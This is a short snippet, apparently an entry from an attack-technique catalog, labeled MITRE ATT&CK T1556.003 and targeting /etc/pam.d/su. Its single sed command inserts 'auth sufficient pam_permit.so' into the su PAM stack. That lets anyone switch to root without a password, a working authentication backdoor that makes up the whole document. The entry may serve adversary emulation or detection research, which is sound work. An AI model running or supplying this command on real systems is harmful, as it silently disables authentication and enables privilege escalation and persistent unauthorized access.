# technique: T1556.003
# location: linux.pam.stack
# source: /etc/pam.d/su
sed -i '1a auth sufficient pam_permit.so' /etc/pam.d/su
